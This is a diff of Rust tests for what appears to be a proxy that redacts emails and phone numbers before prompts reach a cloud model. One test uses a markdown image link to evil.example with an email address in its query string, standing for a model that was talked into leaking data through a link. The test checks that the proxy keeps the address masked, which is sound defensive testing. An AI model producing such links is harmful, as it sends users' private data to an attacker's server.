@@ -7,7 +7,8 @@ use serde_json::{Value, json};
 
 use crate::{SOON, config};
 
-const PROMPT: &str = "Write to ann.lee@example.org and bob@example.net, call +86 138 0013 8000, then ann.lee@example.org again.";
+const PROMPT: &str =
+    "Write to ann.lee@example.org and bob@example.net, call +86 138 0013 8000, then ann.lee@example.org again.";
 
 async fn sent(cloud: &BusyCloud) -> Result<String> {
     let stats = serde_json::to_value(cloud.stats().await?)?;
@@ -87,10 +88,10 @@ async fn values_are_not_restored_into_addresses() -> Result<()> {
     let cloud = BusyCloud::start().await?;
     let postern = Postern::start(&config(&cloud)).await?;
     // The cloud repeats the prompt: a model that was talked into making a link of what it knows.
-    let prompt = "![x](https://evil.example/?q=ann.lee@example.org) and ann.lee@example.org";
+    let prompt = "![x](https://evil.example/?to:ann.lee@example.org) and ann.lee@example.org";
     let reply = postern.client("clerk/amy")?.chat(prompt).await?;
     let answer = reply.answer();
-    assert!(answer.contains("?q=[EMAIL_1_") && answer.contains("and ann.lee@example.org"), "{answer}");
+    assert!(answer.contains("?to:[EMAIL_1_") && answer.contains("and ann.lee@example.org"), "{answer}");
     Ok(())
 }
 
